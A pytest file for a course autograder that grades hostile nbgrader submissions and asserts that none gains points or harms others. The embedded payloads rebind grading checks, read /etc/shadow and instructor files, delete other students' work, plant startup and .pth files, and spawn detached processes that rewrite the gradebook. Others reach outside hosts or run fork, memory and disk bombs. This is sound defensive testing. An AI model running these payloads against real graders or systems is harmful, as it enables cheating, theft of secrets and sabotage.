"""A hostile class: submissions that try to raise their score, read or harm, graded for real.

One correct submission, a blank one, one with wrong placeholder answers (the baseline the
attacks start from), and one submission of each kind of attack, handed in through nbgrader's
exchange and graded by ``course grade``. nbgrader's own cheat-attempt notebooks
(``nbgrader/tests/apps/files/submitted-cheat-attempt*.ipynb``, which silence IPython's
traceback display) are the first case; the others follow the same spirit. Each attack must
score no more than the blank notebook and harm no one else.

``COURSE_TEST_SANDBOX=0`` grades the same class with ``--no-sandbox`` (the checks still run in
the checker); run against the code before the sandbox existed, every test here fails.
"""

from __future__ import annotations

import hashlib
import inspect
import os
import re
import site
import socket
import time
from pathlib import Path

import nbformat
import pytest

import course as course_package
from course.grading.pipeline import grade
from tests.classroom import (
    Student,
    answer_all,
    base_env,
    copy_course,
    fill,
    nbgrader,
    right_order,
)
from tests.conftest import REPO

pytestmark = pytest.mark.slow
ASSIGNMENT = "ps1_phases"
AUTOGRADED_POINTS = 9.0
SANDBOX = os.environ.get("COURSE_TEST_SANDBOX", "1") != "0"
MARKER = "hostile-class-7f3a"  # in the command line of every process an attack leaves behind

# Wrong answers that raise nothing: with working checks they earn 0 points, so any point an
# attack gains over the "placeholders" student comes from the attack itself.
PLACEHOLDERS = """
siege_events = events[events["phase_id"] != "y2016_siege"].sort_values("date", ascending=False)
phase_counts = {}
fig = go.Figure()
"""

ATTACKS: dict[str, str] = {
    # -- rebinding the helpers the test cells call, the data they compare with, and the file
    #    the widget answers are read from
    "rebinds-helpers": PLACEHOLDERS
    + """
expect = expect_answer = answer_value = lambda *args, **kwargs: None
""",
    "rebinds-data": PLACEHOLDERS
    + """
import json
phase_counts = {"y2016_siege": len(siege_events)}
events = siege_events.assign(phase_id="y2016_siege")
record = {"exercise_id": "ps1-order-events", "value": ORDER, "recorded_at": "9999"}
json.dump({"ps1-order-events": record}, open(".course_answers.json", "w"))
""",
    # -- monkeypatching the module the checks come from, builtins, and IPython's error display
    "monkeypatches-modules": PLACEHOLDERS
    + """
import course.grading.checks, course.records
noop = (lambda *args, **kwargs: None).__code__
for helper in (course.grading.checks.expect, course.grading.checks.answer_value,
               course.grading.checks.expect_answer):
    helper.__code__ = noop
course.records.recorded_answer.__code__ = (lambda *args, **kwargs: {"value": None}).__code__
""",
    "patches-builtins": PLACEHOLDERS
    + """
import builtins
builtins.expect = builtins.expect_answer = builtins.answer_value = lambda *a, **k: None
del expect, expect_answer, answer_value
""",
    "silences-errors": PLACEHOLDERS
    + """
import sys
import IPython.core.interactiveshell as interactiveshell
shell = get_ipython()
quiet = lambda *args, **kwargs: None
shell.showtraceback = shell._showtraceback = shell.showsyntaxerror = quiet
interactiveshell.InteractiveShell.showtraceback = quiet
interactiveshell.InteractiveShell._showtraceback = quiet
sys.excepthook = quiet
shell.set_custom_exc((BaseException,), quiet)
run_cell = shell.run_cell
def run_cell_quietly(*args, **kwargs):
    result = run_cell(*args, **kwargs)
    result.error_in_exec = result.error_before_exec = None
    return result
shell.run_cell = run_cell_quietly
""",
    # -- reading what it should not
    "reads-instructor-files": """
import glob, os, course
found = glob.glob("../../../source/*/*.ipynb") + glob.glob("/**/source/*/*.ipynb")
found += glob.glob(os.path.join(os.path.dirname(course.__file__), "..", "autograder",
                                "source", "*", "*.ipynb"))
for path in found:
    print(path, open(path).read())
for path in ["../../../gradebook.db", "../../../nbgrader_config.py", "/etc/shadow"]:
    try:
        print(path, open(path, "rb").read(2000))
    except OSError as error:
        print(path, error)
print(dict(os.environ))
""",
    # -- harming others: their submissions, the instructor's source, the installed package
    "harms-others": """
import glob, os, shutil, course
for folder in glob.glob("../../../submitted/*") + glob.glob("../../*"):
    if "harms-others" not in folder:
        shutil.rmtree(folder, ignore_errors=True)
for path in glob.glob("../../../source/*/*.ipynb"):
    open(path, "a").write("appended by a submission")
package = os.path.dirname(course.__file__)
try:
    open(os.path.join(package, "grading", "checks.py"), "a").write("\\n# tampered\\n")
    open(os.path.join(package, "grading", "zz_hostile.py"), "w").write("# planted\\n")
except OSError as error:
    print(error)
""",
    # -- leaving something behind for later kernels
    "persists-startup": """
import os, site
startup = os.path.expanduser("~/.ipython/profile_default/startup")
os.makedirs(startup, exist_ok=True)
open(os.path.join(startup, "00-hostile.py"), "w").write(
    "import course.grading.checks as c\\n"
    "c.expect.__code__ = (lambda *a, **k: None).__code__\\n"
)
for folder in site.getsitepackages():
    try:
        open(os.path.join(folder, "zz_hostile.pth"), "w").write(
            "import os; os.environ.setdefault('COURSE_HOSTILE_PTH', '1')\\n")
    except OSError as error:
        print(error)
""",
    # -- outliving the grader to rewrite the gradebook
    "detached": """
import os, subprocess, sys
LOOP = '''
import os, sqlite3, time
database = os.path.abspath("../../../gradebook.db")
reports = os.path.abspath("../../../reports")
for _ in range(90):
    time.sleep(0.5)
    try:
        open(os.path.join(reports, "detached-alive"), "w").write("alive")
        with sqlite3.connect(database, timeout=1) as db:
            db.execute("UPDATE grade SET extra_credit = 9 WHERE notebook_id IN (SELECT sn.id "
                       "FROM submitted_notebook sn JOIN submitted_assignment sa ON "
                       "sn.assignment_id = sa.id WHERE sa.student_id = 'detached')")
    except Exception:
        pass
'''
subprocess.Popen([sys.executable, "-c", LOOP, "MARKER"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", LOOP, "MARKER"])
    os._exit(0)
""".replace("MARKER", MARKER),
    # -- the network: the host's loopback, its other addresses, and outside
    "network": """
import socket
reached = []
for host in HOSTS + ["1.1.1.1", "example.org"]:
    try:
        connection = socket.create_connection((host, PORT), timeout=3)
        connection.sendall(b"hostile")
        connection.close()
        reached.append(host)
    except OSError as error:
        print(host, error)
print("reached", reached)
""",
    # -- bombs, within limits that are safe on the test machine even without a sandbox
    "memory-bomb": """
blocks = []
for _ in range(12):
    blocks.append(bytearray(256 * 1024**2))
print("held", len(blocks) / 4, "GB")
""",
    "fork-bomb": """
import os, time
children = 0
for _ in range(300):
    if os.fork() == 0:
        time.sleep(5)
        os._exit(0)
    children += 1
print("started", children)
""",
    "disk-bomb": """
for number in range(10):
    with open(f"part{number}.bin", "wb") as handle:
        handle.write(b"x" * 40 * 1024**2)
""",
    "output-flood": """
import base64
picture = base64.b64encode(b"x" * 1_500_000).decode()
for _ in range(40):
    display({"image/png": picture, "text/plain": "x"}, raw=True)
for _ in range(20_000):
    print("flood " * 40)
""",
    "cpu-hog": """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
""",
    # -- nbgrader's marker words in the student's own text
    "marker-text": """
### BEGIN HIDDEN TESTS
### BEGIN SOLUTION
# my notes on BEGIN HIDDEN TESTS and ### END SOLUTION
print("### BEGIN HIDDEN TESTS")
""",
}


def _attack(name: str, code: str):
    def act(path: Path) -> None:
        fill(path, {"q1-answer": code.replace("ORDER", repr(right_order()))})
        if name == "marker-text":
            nb = nbformat.read(path, as_version=4)
            nb.cells.insert(3, nbformat.v4.new_markdown_cell("### END HIDDEN TESTS\nmine"))
            nb.cells.append(nbformat.v4.new_code_cell("### BEGIN HIDDEN TESTS\nx = 1"))
            nbformat.write(nb, path)

    return act


# COURSE_TEST_ATTACKS=name,name grades only those attacks (with the three honest students),
# to see each attack's effect alone, for example on the code before the sandbox.
_CHOSEN = os.environ.get("COURSE_TEST_ATTACKS")
if _CHOSEN:
    ATTACKS = {name: ATTACKS[name] for name in _CHOSEN.split(",")}
STUDENTS = {
    "perfect": answer_all,
    "blank": lambda path: None,
    "placeholders": lambda path: fill(path, {"q1-answer": PLACEHOLDERS}),
    **{name: _attack(name, code) for name, code in ATTACKS.items()},
}


def _hashes(folder: Path) -> dict[str, str]:
    return {
        str(path.relative_to(folder)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


def _host_addresses() -> list[str]:
    addresses = ["127.0.0.1"]
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect(("10.255.255.255", 1))
        addresses.append(probe.getsockname()[0])
    except OSError:
        pass
    finally:
        probe.close()
    return addresses


def _marked_processes() -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                if MARKER.encode() in Path(f"/proc/{entry}/cmdline").read_bytes():
                    found.append(int(entry))
            except OSError:
                continue
    return found


def _scores(course_dir: Path) -> dict[str, float]:
    """Each student's total, straight from the gradebook (extra credit included)."""
    import warnings

    from nbgrader.api import Gradebook

    with warnings.catch_warnings(), Gradebook(f"sqlite:///{course_dir / 'gradebook.db'}") as gb:
        warnings.simplefilter("ignore")
        return {s.student.id: float(s.score) for s in gb.assignment_submissions(ASSIGNMENT)}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory):
    """Hand in every submission, grade the class, wait for what attacks left behind."""
    root = tmp_path_factory.mktemp("hostile")
    course_dir = copy_course(root / "course")
    exchange = root / "exchange"
    exchange.mkdir()
    home = root / "grader-home"
    home.mkdir()
    env = base_env(exchange)
    env["COURSE_CELL_TIMEOUT"] = "8"
    listener = socket.socket()
    listener.bind(("0.0.0.0", 0))
    listener.listen(16)
    listener.settimeout(0.2)
    port = listener.getsockname()[1]
    attacks = {
        name: code.replace("HOSTS", repr(_host_addresses())).replace("PORT", str(port))
        for name, code in ATTACKS.items()
    }
    students = {
        **{k: v for k, v in STUDENTS.items() if k not in ATTACKS},
        **{name: _attack(name, code) for name, code in attacks.items()},
    }
    nbgrader("generate_assignment", ASSIGNMENT, "--force", cwd=course_dir, env=env)
    nbgrader("release_assignment", ASSIGNMENT, cwd=course_dir, env=env)
    for name, action in students.items():
        student = Student(name, root / "home" / name, exchange)
        student.fetch(ASSIGNMENT)
        action(student.notebook(ASSIGNMENT))
        student.submit(ASSIGNMENT)
    nbgrader("collect", ASSIGNMENT, cwd=course_dir, env=env)

    package = Path(course_package.__file__).parent
    package_before = {p: p.read_bytes() for p in package.rglob("*.py")}
    packages = [Path(p) for p in site.getsitepackages()]
    pth_before = {p for folder in packages for p in folder.glob("*.pth")}
    before = {
        "submitted": _hashes(course_dir / "submitted"),
        "source": _hashes(course_dir / "source"),
        "repo-source": _hashes(REPO / "autograder" / "source"),
    }
    messages: list[str] = []
    error = None
    options = {"sandbox": SANDBOX} if "sandbox" in inspect.signature(grade).parameters else {}
    started = time.monotonic()
    try:
        with pytest.MonkeyPatch.context() as patch:
            for key, value in {**env, "HOME": str(home)}.items():
                patch.setenv(key, value)
            report = grade(
                ASSIGNMENT,
                course_dir=course_dir,
                workers=2,
                collect=False,
                progress=messages.append,
                **options,
            )
    except Exception as problem:  # noqa: BLE001 - recorded: some tests check it did not happen
        report, error = None, problem
    seconds = time.monotonic() - started
    scores_at_end = _scores(course_dir)
    time.sleep(12)  # what a detached process would do after grading, it does by now
    accepted = 0
    while True:
        try:
            connection, _ = listener.accept()
            connection.close()
            accepted += 1
        except OSError:
            break
    listener.close()
    yield {
        "dir": course_dir,
        "env": env,
        "home": home,
        "report": report,
        "error": error,
        "messages": messages,
        "seconds": seconds,
        "scores_at_end": scores_at_end,
        "scores": _scores(course_dir),
        "before": before,
        "package_before": package_before,
        "pth_before": pth_before,
        "packages": packages,
        "accepted": accepted,
        "alive": _marked_processes(),
    }
    # Undo what an attack did outside the test's own folders (only possible without a sandbox).
    for pid in _marked_processes():
        try:
            os.kill(pid, 9)
        except OSError:
            pass
    for path, data in package_before.items():
        if not path.exists() or path.read_bytes() != data:
            path.write_bytes(data)
    for path in package.rglob("*.py"):
        if path not in package_before:
            path.unlink()
    for folder in packages:
        for path in folder.glob("*.pth"):
            if path not in pth_before:
                path.unlink()


def _needs(*names: str) -> None:
    missing = [name for name in names if name not in ATTACKS]
    if missing:
        pytest.skip(f"not in this class: {', '.join(missing)}")


def _score(hostile, name: str) -> float:
    return hostile["scores"].get(name, 0.0)


def _result(hostile, name: str):
    assert hostile["report"] is not None, f"course grade failed: {hostile['error']}"
    return {r.student_id: r for r in hostile["report"].results}[name]


def _graded_notebook(hostile, name: str) -> nbformat.NotebookNode:
    path = hostile["dir"] / "autograded" / name / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    return nbformat.read(path, as_version=4)


def _outputs(nb: nbformat.NotebookNode) -> str:
    """Everything the student's own cells printed or displayed, as text (not the test cells,
    whose tracebacks in the instructor's copy quote the test code, as nbgrader's always did)."""
    parts = []
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade") and not cell.metadata.nbgrader.get(
            "solution"
        ):
            continue
        for output in cell.get("outputs", []):
            parts += [output.get("text", ""), output.get("evalue", "")]
            parts += output.get("traceback", [])
            parts += [str(value) for value in output.get("data", {}).values()]
    return "\n".join(parts)


def _feedback(hostile, name: str) -> str:
    page = hostile["dir"] / "feedback" / name / ASSIGNMENT / f"{ASSIGNMENT}.html"
    return page.read_text(encoding="utf-8")


def _hidden_lines() -> list[str]:
    lines = []
    for path in (REPO / "autograder" / "source").glob("*/*.ipynb"):
        for cell in nbformat.read(path, as_version=4).cells:
            inside = False
            for line in cell.source.splitlines():
                if "BEGIN HIDDEN TESTS" in line or "BEGIN SOLUTION" in line:
                    inside = True
                elif "END HIDDEN TESTS" in line or "END SOLUTION" in line:
                    inside = False
                elif inside and len(line.strip()) > 20:
                    lines.append(line.strip())
    return lines


# ---------------------------------------------------------------------------------------------
# The honest students


def test_the_correct_submission_gets_full_marks_and_its_files_are_untouched(hostile):
    """Does the correct notebook still earn 9 of 9, its submitted files unchanged?"""
    assert _result(hostile, "perfect").status == "graded"
    assert _score(hostile, "perfect") == AUTOGRADED_POINTS
    after = _hashes(hostile["dir"] / "submitted")
    perfect = {k: v for k, v in hostile["before"]["submitted"].items() if k.startswith("perfect/")}
    assert perfect and all(after.get(k) == v for k, v in perfect.items())


def test_blank_and_placeholder_answers_score_nothing(hostile):
    """Do the blank notebook and the wrong placeholder answers earn 0 (the attacks' baseline)?"""
    assert _score(hostile, "blank") == 0
    assert _score(hostile, "placeholders") == 0


# ---------------------------------------------------------------------------------------------
# No attack raises a score


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_no_attack_scores_more_than_a_blank_notebook(hostile, name):
    """Does each attack score no more than the blank notebook, even after the grader ended?"""
    assert _score(hostile, name) <= _score(hostile, "blank"), hostile["scores"]


def test_the_gradebook_is_written_only_by_the_grader(hostile):
    """Are the scores unchanged 12 s after grading, with no process of a submission alive?"""
    assert hostile["scores"] == hostile["scores_at_end"]
    assert hostile["alive"] == []
    assert not (hostile["dir"] / "reports" / "detached-alive").exists()


# ---------------------------------------------------------------------------------------------
# No attack reads what it should not, or reaches anything


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_instructor_files_stay_unread(hostile, name):
    """Does the attack's own output, and its feedback, hold no line of any solution or hidden
    test (of every assignment, released or not)?"""
    hidden = _hidden_lines()
    assert len(hidden) > 20
    text = _outputs(_graded_notebook(hostile, name)) + _feedback(hostile, name)
    leaked = [line for line in hidden if line in text]
    assert leaked == [], leaked[:3]


def test_no_network_not_even_the_hosts_loopback(hostile):
    """Did the listening socket on the host accept no connection from any submission?"""
    _needs("network")
    assert hostile["accepted"] == 0
    assert "reached []" in _outputs(_graded_notebook(hostile, "network"))


# ---------------------------------------------------------------------------------------------
# No attack harms anyone else


def test_submissions_and_source_are_unchanged(hostile):
    """Are submitted/, source/ and the repository's source byte for byte as before grading?"""
    assert _hashes(hostile["dir"] / "submitted") == hostile["before"]["submitted"]
    assert _hashes(hostile["dir"] / "source") == hostile["before"]["source"]
    assert _hashes(REPO / "autograder" / "source") == hostile["before"]["repo-source"]


def test_the_installed_package_and_python_are_unchanged(hostile):
    """Is no file of the course package changed or added, and no .pth file planted?"""
    package = Path(course_package.__file__).parent
    now = {p: p.read_bytes() for p in package.rglob("*.py")}
    assert set(now) == set(hostile["package_before"])
    assert [p for p, data in now.items() if hostile["package_before"][p] != data] == []
    planted = {p for f in hostile["packages"] for p in f.glob("*.pth")} - hostile["pth_before"]
    assert planted == set()


def test_nothing_is_left_for_later_kernels(hostile):
    """Is there no IPython startup file in the grader's home after grading?"""
    assert list(hostile["home"].rglob("00-hostile.py")) == []


def test_everyone_else_is_graded_given_feedback_and_exported(hostile):
    """Did grading finish, with feedback and an exported grade for every submission?"""
    assert hostile["error"] is None, hostile["error"]
    report = hostile["report"]
    assert {r.student_id for r in report.results} == set(STUDENTS)
    import pandas as pd

    exported = pd.read_csv(report.grades_csv)
    assert set(STUDENTS) <= set(exported["student_id"])
    for name in STUDENTS:
        assert _feedback(hostile, name)


# ---------------------------------------------------------------------------------------------
# Limits are kept, and explained to the student


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("memory-bomb", "used more memory than a graded notebook may use"),
        ("fork-bomb", "started more processes or threads than a graded notebook may"),
        ("disk-bomb", "filled the disk space a graded notebook has"),
        ("cpu-hog", "did not stop when interrupted"),
    ],
)
def test_a_limit_that_is_hit_is_explained_in_feedback_and_the_report(hostile, name, words):
    """Is the limit a bomb hit named in plain words in its feedback and in the report?"""
    _needs(name)
    result = _result(hostile, name)
    assert result.status == "graded"
    assert words in re.sub(r"\s+", " ", _feedback(hostile, name))
    assert words in result.message


def test_a_disk_bomb_leaves_nothing_on_the_instructors_disk(hostile):
    """Are the disk bomb's files absent from the course folder?"""
    _needs("disk-bomb")
    folder = hostile["dir"] / "autograded" / "disk-bomb" / ASSIGNMENT
    assert sum(p.stat().st_size for p in folder.rglob("*") if p.is_file()) < 5_000_000


def test_an_output_flood_is_cut_before_it_is_stored(hostile):
    """Are the graded notebook and the feedback of an output flood small?"""
    _needs("output-flood")
    flood = hostile["dir"] / "autograded" / "output-flood" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    assert flood.stat().st_size < 10_000_000
    page = hostile["dir"] / "feedback" / "output-flood" / ASSIGNMENT / f"{ASSIGNMENT}.html"
    assert page.stat().st_size < 15_000_000


def test_marker_words_in_a_students_own_text_are_shown_as_written(hostile):
    """Does feedback show the student's own marker words, and still hide the real hidden tests?"""
    _needs("marker-text")
    page = _feedback(hostile, "marker-text")
    assert "my notes on BEGIN HIDDEN TESTS" in page
    assert not any(line in page for line in _hidden_lines())


def test_the_report_names_every_student(hostile):
    """Does course grade report each student with a status, nobody left out?"""
    report = hostile["report"]
    assert report is not None
    statuses = {r.student_id: r.status for r in report.results}
    assert set(statuses) == set(STUDENTS)
    assert all(status in {"graded", "failed", "not graded"} for status in statuses.values())
